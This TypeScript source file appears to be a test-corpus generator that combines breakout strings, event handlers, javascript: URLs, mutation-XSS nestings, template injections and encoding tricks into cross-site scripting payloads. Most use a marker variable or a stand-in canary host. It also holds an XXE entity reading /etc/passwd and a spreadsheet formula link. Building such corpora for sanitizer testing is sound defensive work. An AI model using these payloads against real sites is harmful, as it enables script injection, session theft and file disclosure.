import type { Dice } from '@/lib/domain/dice'

/**
 * Texts that would run a script, or call another host, wherever they were taken for markup instead of text. Made by a
 * grammar: what breaks out of a place (an attribute, a script, a comment, JSON in a page), then an element that runs
 * what it carries, written in one of the ways that filters overlook. After the families of OWASP's and of PortSwigger's
 * cheat sheets and DOMPurify's tests, in our own words.
 */
export function scriptCorpus(count: number, dice: Dice): string[] {
  const one = <T>(items: readonly T[]): T => items[Math.floor(dice.next() * items.length)]!
  const made = new Set<string>([...WHOLE, ...WHOLE.flatMap((text) => [`"'>${text}`, `</script></title></textarea>${text}`])])
  while (made.size < count) made.add(`${one(BREAKOUTS)}${one(SHAPES)(one, one(PAYLOADS))}${one(ENDS)}`)
  return [...made].slice(0, count)
}

type Pick = <T>(items: readonly T[]) => T

const CANARY = '//canary.invalid'

const PAYLOADS = [
  'window.__x=1',
  'top.__x=1',
  "self['__x']=1",
  'alert(1)',
  "Function('window.__x=1')()",
  '[1].find(()=>{window.__x=1})',
  'setTimeout`window.__x\\x3d1`',
  `fetch('${CANARY}/f')`,
  `import('${CANARY}/m.js')`,
  `new Image().src='${CANARY}/i'`,
  `location='${CANARY}/l'`,
  '\\u0077indow.__x=1',
] as const

const BREAKOUTS = ['', '', '"', "'", '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '-->', ']]>', '*/', '"}]);', '\\"}', '\u2028', '%22%3E', '&quot;&gt;', '<![CDATA[', '<!--'] as const

const ENDS = ['', '', '', '//', '<!--', '-->', '"x="', ' x=`', '\u2029', '</x>'] as const

const CASES: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => name.replace(/[aeiou]/g, (letter) => letter.toUpperCase()),
]

const BLANKS = [' ', '/', '\t', '\n', ' / ', '\u000C'] as const

const QUOTED: readonly ((value: string) => string)[] = [
  (value) => `"${value.replaceAll('"', '&quot;')}"`,
  (value) => `'${value.replaceAll("'", '&#39;')}'`,
  (value) => value.replace(/[\s"'`=<>]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (value) => `"${[...value].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('')}"`,
]

const HANDLERS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=data:,', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['details', 'open', 'ontoggle'],
  ['video', '', 'onloadstart'],
  ['video', 'autoplay', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['a', 'tabindex=0 autofocus', 'onfocusin'],
  ['object', 'data=x', 'onerror'],
  ['iframe', '', 'onload'],
  ['marquee', '', 'onstart'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['x', 'contenteditable autofocus', 'onfocus'],
  ['div', 'style="animation:a 1s"', 'onanimationstart'],
  ['div', 'popover', 'onbeforetoggle'],
  ['p', 'style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
] as const

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'javascript://x%0a', 'data:text/html,<script>', 'vbscript:'] as const
const LINKS = [
  ['a', 'href'],
  ['iframe', 'src'],
  ['form', 'action'],
  ['object', 'data'],
  ['embed', 'src'],
  ['button', 'formaction'],
  ['base', 'href'],
  ['math', 'xlink:href'],
  ['img', 'src'],
  ['svg><use', 'href'],
] as const

const SHAPES: readonly ((pick: Pick, payload: string) => string)[] = [
  // An element whose event runs.
  (pick, payload) => {
    const [tag, rest, event] = pick(HANDLERS)
    return `<${pick(CASES)(tag)}${pick(BLANKS)}${rest}${rest === '' ? '' : ' '}${pick(CASES)(event)}=${pick(QUOTED)(payload)}>`
  },
  // An address that runs.
  (pick, payload) => {
    const [tag, attribute] = pick(LINKS)
    return `<${pick(CASES)(tag)}${pick(BLANKS)}${attribute}=${pick(QUOTED)(pick(SCHEMES) + payload)}>${pick(['x', ''])}</${tag}>`
  },
  // A script, whole, nested, or with its end left off.
  (pick, payload) => pick([`<script>${payload}</script>`, `<scr<script>ipt>${payload}</scr</script>ipt>`, `<script/x>${payload}`, `<script src=${CANARY}/s.js></script>`, `<script type=module>${payload}</script>`, `<script>/*${payload}*/</script>`]),
  // What one parser takes for text and another for markup (mutation).
  (pick, payload) => {
    const inner = `<img src onerror=${payload}>`
    return pick([
      `<math><mtext><table><mglyph><style><!--</style>${inner}`,
      `<svg></p><style><a id="</style>${inner}">`,
      `<noscript><p title="</noscript>${inner}">`,
      `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
      `<select><template><style><!--</style>${inner}`,
      `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${payload}&lt;/script&gt;">`,
      `<textarea><title>${inner}`,
      `<xmp><p title="</xmp>${inner}">`,
      `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
      `<svg><set attributeName=href to=javascript:${payload} />`,
    ])
  },
  // Sheets and links that call home.
  (pick) => pick([`<style>@import '${CANARY}/a.css'</style>`, `<div style="background:url(${CANARY}/b)">`, `<link rel=prefetch href=${CANARY}/c>`, `<meta http-equiv=refresh content="0;url=${CANARY}/d">`, `<img srcset="${CANARY}/e 2x">`, `<video poster=${CANARY}/f>`, `<base href=${CANARY}/>`]),
  // Languages of templates, and the data that the page itself carries.
  (pick, payload) => pick([`{{constructor.constructor('${payload}')()}}`, `\${${payload}}`, `<%=${payload}%>`, `#{${payload}}`, `"}]);${payload};self.__next_f.push([1,"`, `</script><script>${payload}//`, `\\u003cscript>${payload}\\u003c/script>`, `"];${payload};[["`, `__proto__[x]=${payload}`, `$RC=1;${payload}`, `$L1${payload}`, `$@0`, `$undefined`]),
]

/** Written out by hand: each is here for itself. */
const WHOLE = [
  '<script>window.__x=1</script>',
  '<img src=x onerror=window.__x=1>',
  '<svg/onload=window.__x=1>',
  '<svg><script>window.__x&equals;1</script></svg>',
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
  '<a href="javascript:window.__x=1" autofocus>x</a>',
  '<object data="data:text/html,<script>parent.__x=1</script>"></object>',
  '<math href="javascript:window.__x=1">x</math>',
  '<input onfocus=window.__x=1 autofocus>',
  '<details open ontoggle=window.__x=1>',
  '<isindex type=image src=1 onerror=window.__x=1>',
  '<body onload=window.__x=1>',
  '<table background="javascript:window.__x=1">',
  '<plaintext><script>window.__x=1</script>',
  '&lt;script&gt;window.__x=1&lt;/script&gt;',
  '&#60;script&#62;window.__x=1&#60;/script&#62;',
  '%3Cscript%3Ewindow.__x=1%3C/script%3E',
  '+ADw-script+AD4-window.__x=1+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Ewindow.__x=1\uFF1C/script\uFF1E',
  '<\u200Bscript>window.__x=1</script>',
  '<ſcript>window.__x=1</ſcript>',
  '\u202E<script>window.__x=1</script>\u202C',
  '![x](javascript:window.__x=1)',
  '[x](javascript:window.__x=1)',
  '<?xml-stylesheet href="javascript:window.__x=1"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '=HYPERLINK("javascript:window.__x=1")',
  'toString', '__proto__', 'constructor', '[object Object]', 'null', 'undefined', 'NaN', '-1e309', '$ref', '$$typeof',
] as const
